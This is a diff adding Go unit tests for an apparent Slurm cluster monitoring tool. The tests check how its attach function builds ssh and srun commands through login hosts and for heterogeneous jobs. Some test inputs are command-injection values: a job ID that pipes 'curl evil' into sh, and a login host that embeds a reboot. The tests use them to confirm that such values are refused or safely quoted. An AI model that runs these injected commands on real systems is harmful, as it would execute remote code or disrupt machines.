@@ -6,6 +6,7 @@ import (
 
 	tea "charm.land/bubbletea/v2"
 
+	"github.com/nvnodetop/nvnodetop/internal/cluster"
 	"github.com/nvnodetop/nvnodetop/internal/tally"
 )
 
@@ -43,6 +44,41 @@ func TestAttach(t *testing.T) {
 	for job, want := range map[string]string{"12_4": "--jobid=16 ", "77": "", "1;curl evil|sh;#": "", "": ""} {
 		if got := attach(s, &tally.Target{Node: "n1", Job: job}, "srun"); !strings.Contains(got, want) || (got == "") != (want == "") {
 			t.Errorf("job %q: %q", job, got)
+		}
+	}
+}
+
+// Behind a login host the shell starts there, as the user who is known there. Where a word may mean something to a shell it is quoted.
+func TestAttachThroughALoginHost(t *testing.T) {
+	for _, test := range []struct{ login, user, route, want string }{
+		{"", "alice", "ssh", "ssh -t n1"},
+		{"cluster", "", "ssh", "ssh -t -J cluster n1"},
+		{"al@cluster:2222", "al", "ssh", "ssh -t -J al@cluster:2222 al@n1"},
+		{"al@cluster", "al", "srun", "ssh -t al@cluster 'srun --overlap --pty --jobid=16 -w n1 -N1 -n1 bash'"},
+		{"al@cluster:2222", "al", "srun", "ssh -t ssh://al@cluster:2222 'srun --overlap --pty --jobid=16 -w n1 -N1 -n1 bash'"},
+		{"ssh://cluster:22", "", "srun", "ssh -t ssh://cluster:22 'srun --overlap --pty --jobid=16 -w n1 -N1 -n1 bash'"},
+		{"a;reboot@cluster", "it's", "ssh", `ssh -t -J 'a;reboot@cluster' 'it'\''s@n1'`},
+	} {
+		s := scene(100, 20, noon)
+		s.Login, s.Snap.Discovery.User = test.login, test.user
+		if got := attach(s, &tally.Target{Node: "n1", Job: "12_4"}, test.route); got != test.want {
+			t.Errorf("%s over %s: %s, want %s", test.login, test.route, got, test.want)
+		}
+	}
+}
+
+// srun takes a component of a heterogeneous job by the number of the first one, and only on a node of that component.
+func TestAttachToAHeterogeneousJob(t *testing.T) {
+	s := scene(100, 20, noon)
+	s.Snap.Jobs = []cluster.JobView{
+		{Job: cluster.Job{ID: "3+0", Number: "3", Nodes: []string{"n1"}}}, {Job: cluster.Job{ID: "3+1", Number: "4", Nodes: []string{"n2"}}}, {Job: cluster.Job{ID: "7+0", Number: "7", Nodes: []string{"n3"}}},
+	}
+	for _, test := range []struct{ job, node, want string }{
+		{"3+0", "n1", "--jobid=3 --het-group=0 -w n1 "}, {"3+1", "n2", "--jobid=3 --het-group=1 -w n2 "},
+		{"3+0", "n2", "--jobid=3 --het-group=1 -w n2 "}, {"3+0", "n3", "--jobid=3 --het-group=0 -w n3 "},
+	} {
+		if got := attach(s, &tally.Target{Node: test.node, Job: test.job}, "srun"); !strings.Contains(got, test.want) {
+			t.Errorf("job %s on %s: %s", test.job, test.node, got)
 		}
 	}
 }
